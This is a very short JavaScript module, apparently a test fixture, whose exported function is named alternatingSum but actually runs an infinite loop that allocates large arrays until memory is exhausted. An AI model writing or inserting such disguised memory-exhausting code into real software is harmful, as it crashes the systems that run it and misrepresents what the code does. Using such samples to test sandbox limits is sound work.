const held = [];
export function alternatingSum() {
  for (;;) held.push(new Array(2 ** 18).fill(0));
}
